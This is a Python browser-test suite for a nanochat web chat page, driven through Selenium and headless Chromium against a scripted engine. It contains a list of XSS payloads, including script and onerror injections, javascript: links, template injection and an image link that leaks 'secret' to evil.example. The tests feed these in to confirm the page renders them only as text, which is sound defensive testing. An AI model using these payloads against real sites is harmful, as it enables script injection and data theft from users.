"""The page in a real browser over a scripted engine. Skipped where there is no Chromium with its driver."""

import itertools
import json
import re
import shutil
from concurrent.futures import ThreadPoolExecutor

import httpx
import pytest
from fake_engine import FakeEngine, call, deltas, serving, wait_until

webdriver = pytest.importorskip("selenium.webdriver")
CHROMIUM, DRIVER = shutil.which("chromium"), shutil.which("chromedriver")
pytestmark = pytest.mark.skipif(not (CHROMIUM and DRIVER), reason="no chromium and chromedriver here")

FLAGS = ("--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", "--window-size=1280,800")
ENTER, ESCAPE, SHIFT = "\ue007", "\ue00c", "\ue008"

XSS = [
    "<script>window.hacked = 1</script>", "<img src=x onerror='window.hacked=1'>", "<svg onload=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>", "[click](javascript:window.hacked=1)",
    "![x](https://evil.example/?q=secret)", "<a href='javascript:window.hacked=1'>x</a>",
    "</div></article><h1>out</h1>", "`<img src=x onerror=window.hacked=1>`",
    "```html\n<script>window.hacked=1</script>\n```", "**<b onclick=hacked=1>x</b>**",
    "- <details open ontoggle=window.hacked=1>", "# <style>*{display:none}</style>",
    "<math><mtext><script>hacked=1</script>", "&lt;script&gt;", "\u202e<b>rtl</b>",
    "{{constructor.constructor('window.hacked=1')()}}", "<!--", "]]>", "javascript:hacked=1",
]


def answers(prompt: str) -> list:
    """What the scripted model says, by the last words of the prompt."""
    if prompt.endswith("417 + 286?"):
        return deltas("Let me see: ", *call("417 + 286", "703"), " It is **703**.")
    if prompt.endswith("long"):
        return deltas(*["word "] * 3000)
    if prompt.endswith("attack"):
        return deltas(*[piece for attack in XSS for piece in (attack[:5], attack[5:] + "\n\n")], *call(XSS[0], XSS[1]))
    if prompt.endswith("broken"):
        return deltas("This begins", finish_reason="error", error="out of memory")
    return deltas("Hello ", "there, ", "é🦊.")


class Page:
    """What a person does and sees."""

    num_loads = itertools.count()

    def __init__(self, driver, url):
        self.driver, self.url = driver, url
        driver.execute_cdp_cmd("Storage.clearDataForOrigin", {"origin": url, "storageTypes": "local_storage"})
        self.open()

    def open(self):
        # an address that differs only after # would not be loaded again
        self.driver.get(f"{self.url}/?{next(self.num_loads)}")
        wait_until(lambda: self.text("#model-name") == "nanochat-d4-rl")

    def js(self, script, *args):
        return self.driver.execute_script(script, *args)

    def js_module(self, script):
        """The value of an async function body, run in the page."""
        return self.driver.execute_async_script(
            "const done = arguments[0]; (async () => {" + script + "})().then(done, (error) => done(error.stack))")

    def all(self, css):
        return self.driver.find_elements("css selector", css)

    def texts(self, css):
        return self.js("return [...document.querySelectorAll(arguments[0])].map((node) => node.textContent)", css)

    def text(self, css):
        return "".join(self.texts(css))

    def click(self, css):
        self.all(css)[0].click()

    def type(self, keys):
        self.all("#message")[0].send_keys(keys)

    def is_busy(self):
        return self.js("return document.getElementById('log').getAttribute('aria-busy')") == "true"

    def ask(self, message):
        self.type(message + ENTER)
        wait_until(lambda: not self.is_busy() and len(self.all(".turn.assistant footer > *")) > 0)

    def resize(self, width, height, mobile=False):
        metrics = {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": mobile}
        self.driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics)

    def prefer(self, theme):
        features = [{"name": "prefers-color-scheme", "value": theme}]
        self.driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": features})


@pytest.fixture(scope="module")
def driver(tmp_path_factory):
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for flag in (*FLAGS, f"--user-data-dir={tmp_path_factory.mktemp('chromium')}"):
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(options, webdriver.ChromeService(DRIVER))
    driver.set_script_timeout(10)
    yield driver
    driver.quit()


@pytest.fixture(scope="module")
def running():
    engine = FakeEngine(answers, delay_sec=0.001)
    with serving(engine, max_pending=2) as url:
        yield engine, url


@pytest.fixture
def engine(running):
    engine, _ = running
    engine.prompts.clear(), engine.params.clear(), engine.aborted.clear()
    engine.gate.set()
    return engine


@pytest.fixture
def page(driver, running, engine):
    page = Page(driver, running[1])
    page.resize(1280, 800)
    page.prefer("light")
    driver.get_log("browser")
    yield page
    engine.gate.set()
    complaints = [line["message"] for line in driver.get_log("browser") if line["level"] in ("SEVERE", "WARNING")]
    assert not [text for text in complaints if "Failed to load resource" not in text], complaints


# -----------------------------------------------------------------------------
# Talking

def test_a_message_gets_a_streamed_answer_with_its_calculator_call(page, engine):
    engine.gate.clear()
    page.type("What is 417 + 286?" + ENTER)
    wait_until(lambda: len(engine.prompts) == 1)
    assert page.all("#stop")[0].is_displayed() and not page.all("#send")[0].is_displayed()
    assert page.texts(".turn.user") == ["What is 417 + 286?"] and page.all(".turn.waiting")
    engine.gate.set()
    wait_until(lambda: not page.is_busy())
    assert page.texts(".tool .input") == ["417 + 286"] and page.texts(".tool .output") == ["703"]
    assert page.texts(".turn.assistant .text") == ["Let me see: ", "It is 703."]
    assert page.texts(".turn.assistant strong") == ["703"]
    assert re.fullmatch(r"\d+(\.\d)? tok/s · first token \d+\.\d\d s · 5 tokens", page.text(".facts"))
    assert page.text("#announcer") == "Answer: Let me see: Calculator: 417 + 286=703 It is 703."
    assert page.all("#send")[0].is_displayed() and not page.all("#stop")[0].is_displayed()


def test_the_history_goes_along_with_its_tool_calls(page, engine):
    page.ask("What is 417 + 286?")
    page.ask("Thanks")
    text = bytes(i for i in engine.prompts[1] if i < 256).decode()
    assert text == "What is 417 + 286?Let me see: 417 + 286703 It is **703**.Thanks"
    num_special = len([i for i in engine.prompts[1] if i >= 256])
    assert num_special == 1 + 2 + 2 + 4 + 3  # bos, two turns, the call, the last turn
    assert (engine.params[0].temperature, engine.params[0].max_tokens) == (0.6, 256)


@pytest.mark.parametrize("how", ["escape", "button"])
def test_an_answer_can_be_stopped_and_what_was_said_stays(page, engine, how):
    page.type("something long" + ENTER)
    wait_until(lambda: "word word" in page.text(".turn.assistant .text"))
    page.type(ESCAPE) if how == "escape" else page.click("#stop")
    wait_until(lambda: not page.is_busy() and len(engine.aborted) == 1)
    assert "stopped" in page.text(".facts") and page.text(".turn.assistant .text").startswith("word word")
    page.ask("And now?")
    assert page.text(".turn:last-child .text") == "Hello there, é🦊."


def test_enter_sends_shift_enter_breaks_the_line_and_nothing_sends_nothing(page, engine):
    page.type(ENTER)
    page.type("   " + ENTER)
    assert not page.all("#send")[0].is_enabled() and engine.prompts == []
    page.js("document.getElementById('message').value = ''")
    page.type("one" + SHIFT + ENTER + SHIFT + "two" + ENTER)
    wait_until(lambda: engine.prompts and not page.is_busy())
    assert page.texts(".turn.user") == ["one\ntwo"]


def test_an_answer_can_be_asked_for_again_and_copied(page, engine):
    page.ask("Hi")
    page.click("[aria-label='Answer again']")
    wait_until(lambda: len(engine.prompts) == 2 and not page.is_busy())
    assert engine.prompts[0] == engine.prompts[1] and len(page.all(".turn")) == 2
    page.js("navigator.clipboard.writeText = async (text) => { window.copied = text; }")
    page.click("[aria-label='Copy the answer']")
    wait_until(lambda: page.js("return window.copied") == "Hello there, é🦊.")


def test_a_suggestion_is_a_message(page):
    assert page.texts(".chip")[0] == "What is 417 + 286?" and len(page.texts(".chip")) == 4
    page.click(".chip")
    wait_until(lambda: page.texts(".tool .output") == ["703"])
    assert not page.all("#empty")[0].is_displayed()


def test_settings_go_along_and_survive_a_reload(page, engine):
    page.click("#open-settings")
    page.js("const set = (id, value) => { const field = document.getElementById(id); field.value = value;"
            "field.dispatchEvent(new Event('input')); };"
            "set('temperature', 0); set('top_p', 0.5); set('max_tokens', 17);")
    page.open()
    page.ask("Hi")
    assert (engine.params[0].temperature, engine.params[0].top_p, engine.params[0].max_tokens) == (0, 0.5, 17)
    page.click("#open-settings")
    page.click("#reset")
    page.type(ESCAPE)
    page.ask("Hi")
    assert engine.params[1].temperature == 0.6


# -----------------------------------------------------------------------------
# When it goes wrong

def test_a_busy_server_is_said_so_and_can_be_asked_again(page, engine, running):
    engine.gate.clear()
    body = {"model": "nanochat-d4-rl", "messages": [{"role": "user", "content": "x"}]}
    with ThreadPoolExecutor(2) as pool, httpx.Client(base_url=running[1]) as client:
        others = [pool.submit(client.post, "/v1/chat/completions", json=body) for _ in range(2)]
        wait_until(lambda: len(engine.prompts) == 2)
        page.ask("Hi")
        assert "busy" in page.text(".error") and len(page.all(".turn")) == 2
        engine.gate.set()
        assert [other.result().status_code for other in others] == [200, 200]
    page.click(".error button")
    wait_until(lambda: page.text(".turn.assistant .text") == "Hello there, é🦊.")
    assert page.texts(".error") == []


def test_a_server_with_a_key_gets_it_from_the_settings(driver, page):
    with serving(FakeEngine(answers), api_key="sesame") as url:
        driver.get(url)
        wait_until(lambda: "API key" in page.text("#toast"))
        page.click("#open-settings")
        page.all("#key")[0].send_keys("sesame" + ENTER)
        wait_until(lambda: page.text("#model-name") == "nanochat-d4-rl")
        page.click("#message")
        page.ask("Hi")
        assert page.text(".turn.assistant .text") == "Hello there, é🦊."


def test_a_failure_in_the_middle_keeps_what_was_said(page):
    page.ask("broken")
    assert page.text(".turn.assistant .text") == "This begins"
    assert "out of memory" in page.text(".error") and page.texts(".error button") == ["Try again"]


def test_a_server_that_is_gone_is_said_so(page):
    page.js("window.fetch = () => Promise.reject(new TypeError('Failed to fetch'))")
    page.ask("Hi")
    assert "lost" in page.text(".error")


def test_a_stream_that_ends_early_is_no_answer(page):
    chunk = {"choices": [{"index": 0, "delta": {"parts": [{"type": "text", "text": "Ha"}]}, "finish_reason": None}]}
    page.js("const body = arguments[0]; window.fetch = async () => new Response(body)",
            f'data: {json.dumps(chunk)}\n\ndata: {{"choices":[{{"in')
    page.ask("Hi")
    assert page.text(".turn.assistant .text") == "Ha" and "lost" in page.text(".error")


# -----------------------------------------------------------------------------
# Chats

def test_chats_are_kept_listed_reopened_and_deleted_with_a_way_back(page):
    page.ask("First chat")
    page.click("#new-chat")
    assert page.texts(".turn") == [] and page.all("#empty")[0].is_displayed()
    page.ask("Second chat")
    assert page.texts(".chat span:first-child") == ["Second chat", "First chat"]
    page.driver.refresh()
    wait_until(lambda: page.texts(".turn.user") == ["Second chat"])
    page.all(".chat")[1].click()
    assert page.texts(".turn.user") == ["First chat"] and page.text(".turn.assistant .text") == "Hello there, é🦊."
    page.driver.back()
    wait_until(lambda: page.texts(".turn.user") == ["Second chat"])
    page.click("[aria-label='Delete chat: Second chat']")
    assert page.texts(".chat") == ["First chat"] and page.texts(".turn") == []
    page.click("#toast button")
    assert page.texts(".chat span:first-child") == ["Second chat", "First chat"]
    page.click("[aria-label='Delete chat: First chat']")
    page.driver.refresh()
    wait_until(lambda: page.texts(".chat") == ["Second chat"])


def test_a_page_closed_in_the_middle_of_an_answer_offers_to_ask_again(page, engine):
    engine.gate.clear()
    page.type("What is 417 + 286?" + ENTER)
    wait_until(lambda: len(engine.prompts) == 1)
    page.driver.refresh()
    wait_until(lambda: len(engine.aborted) == 1 and "interrupted" in page.text(".error"))
    engine.gate.set()
    page.click(".error button")
    wait_until(lambda: page.texts(".tool .output") == ["703"])
    assert page.texts(".turn.user") == ["What is 417 + 286?"]


def test_an_answer_goes_on_while_another_chat_is_open(page, engine):
    engine.gate.clear()
    page.type("What is 417 + 286?" + ENTER)
    wait_until(lambda: len(engine.prompts) == 1)
    page.click("#new-chat")
    assert page.all("#send")[0].is_displayed() and page.all("#chat-list .pulse")
    engine.gate.set()
    wait_until(lambda: not page.all("#chat-list .pulse"))
    page.click(".chat")
    assert page.texts(".tool .output") == ["703"]


def test_storage_that_others_wrote_does_not_break_the_page(page):
    for number, value in enumerate(["{", "null", "[]", '{"id":1}',
                                    '{"id":"a","title":"x","messages":[{"role":"assistant"}]}',
                                    '{"id":"a","title":"x","messages":[{"role":"user","content":{"a":1}}]}']):
        page.js("localStorage.setItem('nanochat.chat.' + arguments[0], arguments[1])", number, value)
    page.js("localStorage.setItem('nanochat.settings', '{\"temperature\": \"hot\", \"top_p\": 9, \"model\": 1}')")
    chat = {"id": "z", "title": "<b>t</b>", "updated": "soon",
            "messages": [{"role": "user", "content": "<img src=x onerror=hacked=1>"}]}
    page.js("localStorage.setItem('nanochat.chat.z', arguments[0])", json.dumps(chat))
    page.open()
    assert page.texts(".chat") == ["<b>t</b>"]
    page.click(".chat")
    assert page.texts(".turn.user") == ["<img src=x onerror=hacked=1>"]
    page.ask("Hi")
    assert page.text(".turn.assistant .text") == "Hello there, é🦊."


@pytest.mark.parametrize("num_turns, length", [(601, 5), (40, 10_000)])
def test_a_chat_of_any_length_goes_on(page, engine, num_turns, length):
    """The API takes 500 messages and 200,000 characters; the page must not run into that."""
    messages = [{"role": "user", "content": "u" * length} if i % 2 == 0 else
                {"role": "assistant", "parts": [{"type": "text", "text": "a" * length}]} for i in range(num_turns)]
    chat = {"id": "z", "title": "long", "updated": 1, "messages": messages}
    page.js("localStorage.setItem('nanochat.chat.z', arguments[0])", json.dumps(chat))
    page.open()
    page.click(".chat")
    page.ask("Hi")
    assert page.text(".turn:last-child .text") == "Hello there, é🦊."


# -----------------------------------------------------------------------------
# Text stays text

def test_nothing_a_model_or_a_person_writes_becomes_markup(page):
    page.ask("attack")
    for attack in XSS:
        page.js("document.getElementById('message').value = arguments[0]", attack)
        page.ask(" ")
    assert page.js("return window.hacked") is None
    allowed = {"article", "div", "p", "pre", "code", "h3", "ul", "ol", "li", "strong", "em", "span", "footer", "button",
               "svg", "use"}
    assert set(page.js("return [...document.querySelectorAll('#log *')].map((node) => node.localName)")) <= allowed
    attributes = page.js("return [...document.querySelectorAll('#log *')].flatMap((node) => node.getAttributeNames())")
    assert set(attributes) <= {"class", "aria-label", "aria-hidden", "role", "href", "title", "type", "start"}
    shown = page.text(".turn.assistant .text")
    for attack in XSS:
        for line in attack.removeprefix("```html\n").removesuffix("\n```").split("\n"):
            assert line.strip("`*#- ") in shown
    assert page.texts(".tool .input")[0] == XSS[0] and page.texts(".tool .output")[0] == XSS[1]
    assert page.texts(".turn.user")[1:] == [attack.strip() for attack in XSS]


def test_the_browser_itself_refuses_markup_from_strings(page):
    """Trusted Types: should a later hand write innerHTML, the page breaks in front of them and not of an attacker."""
    refused = page.js("try { document.body.innerHTML = '<p>x</p>'; return ''; } catch (error) { return error.name; }")
    assert refused == "TypeError"
    page.driver.get_log("browser")  # where the browser complains about it, as it should


MARKDOWN = [
    ("one\ntwo\n\nthree", "<p>one\ntwo</p><p>three</p>"),
    ("**bold** and *it*", "<p><strong>bold</strong> and <em>it</em></p>"),
    ("_it_ and __b__", "<p><em>it</em> and <strong>b</strong></p>"),
    ("2*3*4 = 24, a*b, snake_case_name, 5 * 6 * 7", "<p>2*3*4 = 24, a*b, snake_case_name, 5 * 6 * 7</p>"),
    ("a*b* c and f_1_ x", "<p>a*b* c and f_1_ x</p>"),
    ("`a*b*c` and ``x ` y``", "<p><code>a*b*c</code> and <code>x ` y</code></p>"),
    ("**open and `open", "<p>**open and `open</p>"),
    ("**bold *nested* bold**", "<p><strong>bold <em>nested</em> bold</strong></p>"),
    ("- a\n- b\n  more\n\n1. x\n2. y", "<ul><li>a</li><li>b\nmore</li></ul><ol><li>x</li><li>y</li></ol>"),
    ("3) c\n4) d", '<ol start="3"><li>c</li><li>d</li></ol>'),
    ("# Title\ntext", "<h3>Title</h3><p>text</p>"),
    ("#hashtag", "<p>#hashtag</p>"),
    ("```py\na = 1\n\nb < 2\n```\nafter", "<pre><code>a = 1\n\nb &lt; 2</code></pre><p>after</p>"),
    ("```\nnot closed\n**yet**", "<pre><code>not closed\n**yet**</code></pre>"),
    ("````\n```\n````", "<pre><code>```</code></pre>"),
    ("[a](http://x) ![b](y) <b>c</b> &amp;", "<p>[a](http://x) ![b](y) &lt;b&gt;c&lt;/b&gt; &amp;amp;</p>"),
    ("", ""), ("\n\n", ""), ("***", "<p>***</p>"),
]


def test_markdown_by_hand_worked_cases_whole_and_streamed(page):
    """Streaming re-renders after every character; what stands in the end must not depend on it."""
    shown = page.js_module("const { renderMarkdown } = await import('/markdown.js');"
                           f"return {json.dumps(MARKDOWN)}.map(([text]) => {{"
                           "  const whole = document.createElement('div'), streamed = document.createElement('div');"
                           "  renderMarkdown(whole, text);"
                           "  for (let i = 0; i <= text.length; i++) renderMarkdown(streamed, text.slice(0, i));"
                           "  return [whole.innerHTML, streamed.innerHTML]; });")
    for (text, expected), (whole, streamed) in zip(MARKDOWN, shown):
        expected = expected.replace("<ol><li>x", '<ol start="1"><li>x')
        assert whole == expected, text
        assert streamed == expected, text


def test_markdown_takes_its_time_with_no_text(page):
    """Texts made to be slow to parse: openers without closers, deep nesting. The script timeout is the limit."""
    assert page.js_module(
        "const { renderMarkdown } = await import('/markdown.js');"
        "for (const piece of ['*a ', '_a *b ', '**a ', '`a', '``', '# ', '- ', '~~~', '```', ' ', '1. ', '*', '[a](']) "
        "  renderMarkdown(document.createElement('div'), piece.repeat(20000 / piece.length));"
        "return 'done';") == "done"


def test_the_event_reader_does_not_care_where_the_network_cuts(page):
    """Every single cut, byte by byte, and all three line endings: always the same events."""
    found = page.js_module("""
        const { readEvents } = await import('/sse.js');
        const read = async (chunks) => {
          const events = [];
          const stream = new ReadableStream({ start(c) { chunks.forEach((chunk) => c.enqueue(chunk)); c.close(); } });
          for await (const data of readEvents(stream)) events.push(data);
          return JSON.stringify(events);
        };
        const results = new Set();
        for (const end of ['\\n', '\\r\\n', '\\r']) {
          const text = [': hello', '', 'data: {"a":"é🦊"}', '', 'event: x', 'data:one', 'data: two', '', '',
                        'data: [DONE]', '', 'data: cut'].join(end);
          const bytes = new TextEncoder().encode(text);
          results.add(await read([bytes]));
          results.add(await read([...bytes].map((byte) => new Uint8Array([byte]))));
          for (let i = 1; i < bytes.length; i++) results.add(await read([bytes.slice(0, i), bytes.slice(i)]));
        }
        return [...results];""")
    assert [json.loads(result) for result in found] == [['{"a":"é🦊"}', "one\ntwo", "[DONE]"]]


# -----------------------------------------------------------------------------
# Looks

def test_every_control_has_a_name_and_the_log_is_one(page):
    page.ask("What is 417 + 286?")
    unnamed = page.js("const hasName = (node) => node.ariaLabel || node.textContent.trim() || node.labels?.length;"
                      "return [...document.querySelectorAll('button, input, textarea')]"
                      ".filter((node) => !hasName(node)).map((node) => node.outerHTML)")
    assert unnamed == []
    log = page.all("#log")[0]
    assert (log.get_attribute("role"), log.get_attribute("aria-live")) == ("log", "off")
    assert page.all("#announcer")[0].get_attribute("role") == "status"


@pytest.mark.parametrize("width, height", [(390, 844), (320, 568), (820, 1180)])
def test_nothing_sticks_out_of_a_phone_and_the_list_is_a_drawer(page, width, height):
    page.resize(width, height, mobile=True)
    page.open()
    page.ask("x" * 300)
    page.ask("What is 417 + 286?")
    wide = page.js("const right = (node) => node.getBoundingClientRect().right;"
                   "const isWide = (node) => !node.closest('pre') && right(node) > innerWidth + 1;"
                   "return [...document.querySelectorAll('main, main *')].filter(isWide)"
                   ".map((node) => node.outerHTML.slice(0, 80))")
    assert wide == [] and page.js("return document.documentElement.scrollWidth <= innerWidth")
    composer = page.js("return document.getElementById('composer').getBoundingClientRect().bottom")
    assert composer <= height
    assert not page.all("#new-chat")[0].is_displayed() and page.js("return document.getElementById('sidebar').inert")
    page.click("#open-sidebar")
    wait_until(lambda: page.js("return document.getElementById('sidebar').getBoundingClientRect().left") == 0)
    assert page.js("return document.activeElement.id") == "new-chat"
    assert page.js("return document.getElementById('main').inert")
    page.all("#new-chat")[0].send_keys(ESCAPE)
    wait_until(lambda: not page.all("#new-chat")[0].is_displayed())
    assert page.js("return document.activeElement.id") == "open-sidebar"


def brightness(page) -> float:
    """0 to 255, of the page's own background."""
    colour = page.js("return getComputedStyle(document.body).backgroundColor")
    return sum(map(float, re.findall(r"[\d.]+", colour)[:3])) / 3


def test_the_page_is_dark_when_the_system_is_or_when_told(page):
    assert brightness(page) > 200
    page.prefer("dark")
    assert brightness(page) < 60
    page.click("#theme")
    assert brightness(page) > 200
    page.open()
    assert brightness(page) > 200 and page.all("#theme")[0].get_attribute("aria-pressed") == "false"


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_text_can_be_read(page, theme):
    """WCAG AA: 4.5 to 1 between every text and what lies behind it."""
    page.prefer(theme)
    page.ask("What is 417 + 286?")
    page.ask("broken")
    page.click("#open-settings")
    ratios = page.js("""
        const parse = (colour) => colour.match(/[\\d.]+/g).map(Number);
        const linear = (value) => (value /= 255) <= .04045 ? value / 12.92 : ((value + .055) / 1.055) ** 2.4;
        const luminance = ([r, g, b]) => .2126 * linear(r) + .7152 * linear(g) + .0722 * linear(b);
        const behind = (node) => {
          for (; node; node = node.parentElement) {
            const colour = parse(getComputedStyle(node).backgroundColor);
            if (colour.length === 3 || colour[3] === 1) return colour;
          }
        };
        const ratios = {};
        for (const node of document.querySelectorAll('body *')) {
          const isText = [...node.childNodes].some((child) => child.nodeType === 3 && child.data.trim());
          if (!isText || !node.checkVisibility() || node.closest('noscript, .unseen')) continue;
          const [a, b] = [parse(getComputedStyle(node).color), behind(node)].map(luminance);
          const name = `${node.localName}.${node.className}: ${node.textContent.slice(0, 30)}`;
          ratios[name] = (Math.max(a, b) + .05) / (Math.min(a, b) + .05);
        }
        return ratios;""")
    assert len(ratios) > 15
    assert {name: ratio for name, ratio in ratios.items() if ratio < 4.5} == {}
